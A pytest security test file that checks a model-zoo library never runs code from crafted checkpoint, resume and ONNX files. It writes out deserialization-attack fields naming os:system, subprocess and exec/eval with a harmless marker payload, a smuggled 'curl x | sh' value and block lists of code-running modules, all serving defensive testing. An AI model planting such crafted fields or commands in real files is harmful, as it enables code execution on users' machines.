"""Opening a model file never runs code from it.

Real crafted files, made the way an attacker would: a trained checkpoint, a resume state and
an ONNX file whose card names a factory such as ``os:system`` with arguments that would
create a marker file. Every command and API that opens a model file is run on each; the
marker must never appear, no hostile reference may reach the import machinery (audit
events), and each run either works normally (the file names an installed model: its
factory is ignored) or stops with a one-line error.
"""

from __future__ import annotations

import ast
import json
import shutil
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from test_train import zoo_inproc

import zoo
from zoo import catalogs, registry
from zoo.errors import PluginError, UnknownNameError, ZooError

ZOO = Path(zoo.__file__).parent

# -- the crafted cards -------------------------------------------------------------------


def hostile_fields(marker: Path) -> dict[str, dict[str, Any]]:
    """Card fields an attacker writes into a file, by the name of the attack."""
    touch = f"touch {marker}"
    code = f"open({str(marker)!r}, 'w').close()"
    return {
        "os:system": {"factory": "os:system", "factory_args": {"command": touch}},
        "subprocess:getoutput": {"factory": "subprocess:getoutput", "factory_args": {"cmd": touch}},
        "subprocess:Popen": {"factory": "subprocess:Popen", "factory_args": {"args": ["touch", str(marker)]}},
        "builtins:exec": {"factory": "builtins:exec", "factory_args": {"source": code}},
        "builtins:eval": {"factory": "builtins:eval", "factory_args": {"source": code}},
        "missing module": {"factory": "zoo_no_such_module:build", "factory_args": {}},
        "junk factory_args": {"factory_args": {"num_classes": 10**9, "in_chans": "x", "command": touch}},
        "weights provider": {"weights": {"imagenet": {"provider": "os:system", "key_map": "builtins:eval",
                                                      "file": "x.pth"}}},
    }


HOSTILE_REFS = {"os:system", "subprocess:getoutput", "subprocess:Popen", "builtins:exec", "builtins:eval",
                "zoo_no_such_module:build"}
ATTACKS = list(hostile_fields(Path("m")))
NAMES = {"installed": {}, "unknown": {"name": "evil_net", "distribution": "evil-package"}}


def craft_metadata(meta: dict[str, str], changes: dict[str, Any]) -> dict[str, str]:
    out = dict(meta)
    out.update({k: v if isinstance(v, str) else json.dumps(v) for k, v in changes.items()})
    return out


def craft_checkpoint(source: Path, target: Path, changes: dict[str, Any]) -> Path:
    from safetensors import safe_open
    from safetensors.torch import save_file

    with safe_open(str(source), framework="pt") as fh:
        meta = fh.metadata()
        tensors = {key: fh.get_tensor(key) for key in fh.keys()}
    save_file(tensors, str(target), metadata=craft_metadata(meta, changes))
    return target


def craft_resume(source: Path, target_dir: Path, changes: dict[str, Any]) -> Path:
    from safetensors import safe_open
    from safetensors.torch import save_file

    with safe_open(str(source), framework="pt") as fh:
        meta = fh.metadata()
        tensors = {key: fh.get_tensor(key) for key in fh.keys()}
    state = json.loads(meta["state"])
    state["card"] = craft_metadata(state["card"], changes)
    target_dir.mkdir(parents=True)
    target = target_dir / source.name
    save_file(tensors, str(target), metadata={**meta, "state": json.dumps(state)})
    return target


def craft_onnx(card_meta: dict[str, str], target: Path, changes: dict[str, Any]) -> Path:
    """A real two-node ONNX classifier (Flatten, MatMul) carrying a crafted card."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.random.default_rng(0).random((784, 10), dtype=np.float32), "W")
    graph = helper.make_graph(
        [helper.make_node("Flatten", ["x"], ["flat"]), helper.make_node("MatMul", ["flat", "W"], ["y"])], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 1, 28, 28])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 10])], [weight])
    proto = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    proto.ir_version = 8
    for key, value in craft_metadata(card_meta, changes).items():
        entry = proto.metadata_props.add()
        entry.key, entry.value = key, value
    onnx.save(proto, str(target))
    return target


# -- watching what runs ------------------------------------------------------------------


class Watch:
    """Audit events while armed: imports through zoo, module imports, processes started."""

    def __init__(self) -> None:
        self.armed = False
        self.refs: list[str] = []
        self.spawned: list[str] = []
        self.imported: list[str] = []

    def __call__(self, event: str, args: tuple) -> None:
        if not self.armed:
            return
        if event == "zoo.import_object":
            self.refs.append(args[0])
        elif event in ("os.system", "subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn"):
            self.spawned.append(repr(args)[:300])
        elif event == "import":
            self.imported.append(str(args[0]))


WATCH = Watch()
sys.addaudithook(WATCH)  # hooks cannot be removed; this one records only while armed


@pytest.fixture(scope="module")
def small(digits, tmp_path_factory) -> Path:
    """Three images of each digit: enough for every command, fast."""
    root = tmp_path_factory.mktemp("small") / "digits"
    for folder in sorted(p for p in digits.iterdir() if p.is_dir()):
        (root / folder.name).mkdir(parents=True)
        for image in sorted(folder.glob("*.png"))[:3]:
            shutil.copy(image, root / folder.name / image.name)
    return root


@pytest.fixture(scope="module")
def resume_state(small, tmp_path_factory) -> Path:
    """A real resume state: a digitnet run on ``small`` stopped by a real SIGINT."""
    from test_train import _InterruptAt

    from zoo.training import TrainingInterrupted

    out = tmp_path_factory.mktemp("interrupted")
    with pytest.raises(TrainingInterrupted) as stopped:
        zoo.train("digitnet", small, out=out, epochs=2, batch_size=8, val_every=100, progress=False,
                  callbacks=[_InterruptAt(2)])
    return stopped.value.state_path


def operations(ckpt: Path, onnx_file: Path, resume_dir: Path, small: Path, tmp: Path) -> dict[str, Any]:
    """Every command and API that opens a model file: label -> CLI arguments or a callable."""
    image = str(sorted(small.glob("3/*.png"))[0])
    fast_bench = ["--batch", "1", "--iters", "3", "--seconds", "0.05"]
    return {
        "zoo info CKPT": ["info", str(ckpt)],
        "zoo info CKPT --no-layers": ["info", str(ckpt), "--no-layers"],
        "zoo predict CKPT": ["predict", str(ckpt), image],
        "zoo evaluate CKPT": ["evaluate", str(ckpt), "--data", str(small), "--no-plot"],
        "zoo export CKPT": ["export", str(ckpt), "--out", str(tmp / "out.onnx"), "--no-check"],
        "zoo train CKPT": ["train", str(ckpt), "--data", str(small), "--epochs", "1", "--out", str(tmp / "t")],
        "zoo finetune CKPT": ["finetune", str(ckpt), "--data", str(small), "--classes", "10", "--epochs", "1",
                              "--out", str(tmp / "f")],
        "zoo features CKPT": ["features", str(ckpt), "--layer", "fc", "--data", str(small),
                              "--out", str(tmp / "f.npz")],
        "zoo bench CKPT": ["bench", str(ckpt), "--runtime", "torch", *fast_bench],
        "zoo train --resume": ["train", "digitnet", "--data", str(small), "--out", str(resume_dir), "--resume"],
        "zoo.load(CKPT).classify": lambda: zoo.load(ckpt).classify(image),
        "zoo.resolve(CKPT)": lambda: zoo.resolve(ckpt),
        "zoo.evaluate(CKPT)": lambda: zoo.evaluate(ckpt, small),
        "zoo predict ONNX": ["predict", str(onnx_file), image],
        "zoo info ONNX": ["info", str(onnx_file)],
        "zoo bench ONNX": ["bench", str(onnx_file), *fast_bench],
        "Predictor(ONNX).predict": lambda: __import__("zoo.runtime").runtime.Predictor(onnx_file).predict(image),
    }


# Commands that describe a file without building it, and ONNX, where nothing is ever built:
# they work whatever name the card gives.
NEVER_BUILDS = {"zoo info CKPT --no-layers", "zoo predict ONNX", "zoo info ONNX", "zoo bench ONNX",
                "Predictor(ONNX).predict"}


@pytest.mark.parametrize("naming", list(NAMES))
@pytest.mark.parametrize("attack", ATTACKS)
def test_crafted_files_run_nothing(attack, naming, checkpoint, small, resume_state, tmp_path, capsys):
    from zoo.checkpoint import read_card

    marker = tmp_path / "MARKER"
    changes = {**hostile_fields(marker)[attack], **NAMES[naming]}
    ckpt = craft_checkpoint(checkpoint, tmp_path / "model.safetensors", changes)
    onnx_file = craft_onnx(read_card(checkpoint).to_metadata(), tmp_path / "model.onnx", changes)
    resume_dir = tmp_path / "resume"
    craft_resume(resume_state, resume_dir, changes)
    outcomes = {}
    for label, op in operations(ckpt, onnx_file, resume_dir, small, tmp_path).items():
        WATCH.armed, WATCH.refs, WATCH.spawned = True, [], []
        try:
            if callable(op):
                try:
                    op()
                    code, err = 0, ""
                except ZooError as exc:
                    code, err = 2, f"error: {exc}\n"
            else:
                code, _, err = zoo_inproc(capsys, *op)
        finally:
            WATCH.armed = False
        outcomes[label] = code
        assert not marker.exists(), f"{label} ran the crafted command"
        assert not WATCH.spawned, f"{label} started a process: {WATCH.spawned}"
        assert not HOSTILE_REFS & set(WATCH.refs), f"{label} tried to import {WATCH.refs}"
        assert set(WATCH.refs) <= registry.declared_references(), label
        assert "zoo_no_such_module" not in WATCH.imported
        assert "Traceback" not in err, f"{label}: {err}"
        works = naming == "installed" or label in NEVER_BUILDS
        if works:
            assert code == 0, f"{label} failed: {err}"
        else:
            assert code == 2 and err.startswith("error: ") and err.count("\n") == 1, f"{label}: {err!r}"
            if label != "zoo train --resume":  # the resume state names another model than asked for
                assert "model 'evil_net' from catalog 'builtin' is not installed" in err, err
                assert "pip install evil-package" in err and "trust" in err
    print(f"\n{attack} / {naming}: " + ", ".join(f"{k}={v}" for k, v in outcomes.items()))


def test_a_file_card_never_carries_code_references(checkpoint, tmp_path):
    from zoo.checkpoint import read_card

    ckpt = craft_checkpoint(checkpoint, tmp_path / "m.safetensors", hostile_fields(tmp_path / "x")["os:system"]
                            | hostile_fields(tmp_path / "x")["weights provider"])
    card = read_card(ckpt)
    assert card.factory == "" and card.factory_args == {} and card.weights == {}
    assert "os:system" not in json.dumps(card.extra)
    assert not {"factory", "factory_args", "weights"} & set(card.to_metadata())


@pytest.mark.parametrize(("changes", "message"), [
    ({"num_classes": 10**9}, "num_classes must be between 1 and 100,000"),
    ({"num_classes": '"10"'}, "num_classes must be an integer"),  # JSON text of a string
    ({"input_size": [28, 10**6]}, "between 1 and 8192 pixels"),
    ({"input_size": '"[28, 28]"'}, "input_size must be"),
    ({"channels": 7}, "channels must be 1 or 3"),
    ({"labels": {"a": 1}}, "labels must be a list of strings"),
    ({"labels": ["x" * 5000] * 10}, "at most 1000 characters"),
    ({"mean": [float("nan")]}, "finite numbers"),
    ({"std": [0]}, "std values must be positive"),
    ({"crop_pct": -1}, "crop_pct must be"),
    ({"interpolation": "lanczos;rm"}, "interpolation must be one of"),
    ({"crop_mode": "x"}, "crop_mode must be one of"),
    ({"name": "digit\nnet"}, "printable string"),
    ({"name": ""}, "printable string"),
    ({"training": [1, 2]}, "training must be a table"),
    ({"labels": "[" * 100000}, "not valid JSON"),
])
def test_bad_card_values_are_one_line_errors(checkpoint, tmp_path, capsys, changes, message):
    ckpt = craft_checkpoint(checkpoint, tmp_path / "m.safetensors", changes)
    for args in (["info", str(ckpt), "--no-layers"], ["predict", str(ckpt), str(ckpt)]):
        code, _, err = zoo_inproc(capsys, *args)
        assert code == 2 and err.count("\n") == 1 and message in err, err


def test_distribution_named_by_a_file_is_shown_only_when_it_looks_like_one(checkpoint, tmp_path, capsys):
    ckpt = craft_checkpoint(checkpoint, tmp_path / "m.safetensors",
                            {"name": "evil_net", "distribution": "evil; curl x | sh"})
    code, _, err = zoo_inproc(capsys, "predict", str(ckpt), str(ckpt))
    assert code == 2 and "curl" not in err and "install the plugin that provides it" in err


def test_plugin_model_checkpoint_names_its_distribution_when_missing(tmp_path, capsys):
    """A checkpoint of the example plugin's lenet5, opened where that plugin is not installed."""
    from zoo.checkpoint import read_card, save

    net = zoo.create_model("example:lenet5", num_classes=2)
    card = zoo.model_info("example:lenet5").replace(num_classes=2, labels=("a", "b"))
    ckpt = save(tmp_path / "lenet.safetensors", net, card)
    assert read_card(ckpt).distribution == "zoo-plugin-example"
    assert zoo.load(ckpt).card.labels == ("a", "b")
    moved = craft_checkpoint(ckpt, tmp_path / "other.safetensors", {"source": "example2"})
    with pytest.raises(UnknownNameError, match="model 'lenet5' from catalog 'example2' is not installed "
                                               r"\(only 'example:lenet5' is\).*pip install zoo-plugin-example"):
        zoo.load(moved)


def test_import_object_refuses_what_no_catalog_declares():
    for ref in HOSTILE_REFS | {"zoo.models.digitnet:DigitNet", "zoo.cli:main"}:
        with pytest.raises(PluginError, match="no installed catalog declares it"):
            registry.import_object(ref)
    assert registry.import_object("zoo.models.digitnet:digitnet").__name__ == "digitnet"


def test_declared_references_come_from_installed_packages():
    """Every reference zoo may import names a module of zoo, of a model library the built-in
    catalog uses, or of an installed plugin package."""
    zoo.model_info("timm/resnet18")  # a family member's references join the set once built
    plugin_packages = {p.value.partition(":")[0] for p in catalogs.plugins()}
    allowed = {"zoo", "torchvision", "timm"} | plugin_packages
    refs = registry.declared_references()
    assert "timm:create_model" in refs and "zoo.models.digitnet:digitnet" in refs
    for ref in refs:
        assert ref.partition(":")[0].split(".")[0] in allowed, ref


# -- every place that turns a string into code ---------------------------------------------

# (module, function) -> what feeds it. A new place must be added here, with its reason.
STRING_TO_CODE = {
    ("zoo/registry.py", "import_object"): "installed catalogs only: refused unless declared_references() has it",
    ("zoo/__init__.py", "__getattr__"): "the constant _LAZY table",
    ("zoo/runtime/__init__.py", "__getattr__"): "the constant _LAZY table",
    ("zoo/cli/__init__.py", "get_command"): "the constant COMMANDS table",
    ("zoo/networks.py", "_run_file"): "a FILE.py the user names (argument or --network), never a path read from a file",
}
# Callers of import_object, and the catalog object each passes.
IMPORT_OBJECT_CALLERS = {
    ("zoo/registry.py", "model_info"): "family.card",
    ("zoo/registry.py", "family_names"): "family.lister",
    ("zoo/registry.py", "create_factory"): "card.factory",
    ("zoo/data/adapters.py", "open_dataset"): "info.factory",
    ("zoo/weights/locate.py", "_from_provider"): "source.provider",
    ("zoo/weights/load.py", "_map_keys"): "key_map",
    ("zoo/plugin_check.py", "_check"): "factory",
}
BUILTINS = {"eval", "exec", "compile", "__import__", "import_module", "run_path", "run_module"}
CODE_MODULES = {"importlib", "builtins", "runpy", "pickle", "marshal", "shelve", "dill", "cloudpickle"}


def _calls(tree: ast.AST):
    """(enclosing function, call) for every call in a module."""
    def walk(node: ast.AST, function: str):
        for child in ast.iter_child_nodes(node):
            name = child.name if isinstance(child, (ast.FunctionDef, ast.AsyncFunctionDef)) else function
            if isinstance(child, ast.Call):
                yield function, child
            yield from walk(child, name)
    yield from walk(tree, "<module>")


def _callee(call: ast.Call) -> str:
    func = call.func
    if isinstance(func, ast.Name):
        return func.id
    if isinstance(func, ast.Attribute):
        base = func.value.id if isinstance(func.value, ast.Name) else "?"
        return f"{base}.{func.attr}"
    return "?"


def test_every_string_to_code_site_is_known():
    """Walks zoo/ for every call that can turn data into code: the import machinery, eval and
    exec, unpickling. Each must be a known site, fed only from installed catalogs or constants."""
    found_dynamic, found_callers = {}, {}
    for path in sorted(ZOO.rglob("*.py")):
        rel = f"zoo/{path.relative_to(ZOO).as_posix()}"
        for function, call in _calls(ast.parse(path.read_text())):
            callee = _callee(call)
            base, _, attr = callee.rpartition(".")
            if (attr or callee) == "import_object":
                found_callers[(rel, function)] = callee
            elif callee == "torch.load":
                weights_only = [k for k in call.keywords if k.arg == "weights_only"]
                assert weights_only and getattr(weights_only[0].value, "value", None) is True, rel
            elif callee in ("np.load", "numpy.load"):
                pickles = [k for k in call.keywords if k.arg == "allow_pickle"]
                assert pickles and getattr(pickles[0].value, "value", None) is False, rel
            elif (not base and callee in BUILTINS) or base in CODE_MODULES:
                found_dynamic[(rel, function)] = callee
    assert set(found_dynamic) == set(STRING_TO_CODE), found_dynamic
    assert set(found_callers) == set(IMPORT_OBJECT_CALLERS), found_callers


def _lab6_layers() -> list:
    from zoo.layers import parse_layers

    return parse_layers((ZOO.parent / "examples" / "lab6_layers.m").read_text(), "lab6_layers.m")


@pytest.mark.parametrize(("mutate", "message"), [
    (lambda layers: layers[1].update(type="os:system"), "unknown layer type 'os:system'"),
    (lambda layers: layers[1].update(filters=10**9), "numFilters must be an integer from 1 to 65,536"),
    (lambda layers: layers[1].update(filter_size=[1024, 1024], filters=65536), "convolution2dLayer"),
    (lambda layers: layers.insert(0, 5), "layers must hold tables of plain values"),
    (lambda layers: layers.pop(0), "imageInputLayer"),
])
def test_crafted_layer_arrays_are_refused_before_anything_is_built(checkpoint, tmp_path, capsys, mutate, message):
    """A layer-array checkpoint is data for zoo's own builder, which checks every value first."""
    layers = _lab6_layers()
    mutate(layers)
    ckpt = craft_checkpoint(checkpoint, tmp_path / "m.safetensors", {"source": "layers", "layers": layers})
    code, _, err = zoo_inproc(capsys, "predict", str(ckpt), str(ckpt))
    assert code == 2 and err.count("\n") == 1 and message in err, err


def test_an_untouched_layer_array_checkpoint_loads(checkpoint, tmp_path):
    """The lecture's layer array names its layers as digitnet does: the same tensors fit it."""
    ckpt = craft_checkpoint(checkpoint, tmp_path / "m.safetensors", {"source": "layers", "layers": _lab6_layers()})
    assert sum(p.numel() for p in zoo.load(ckpt).module.parameters()) == 21_690
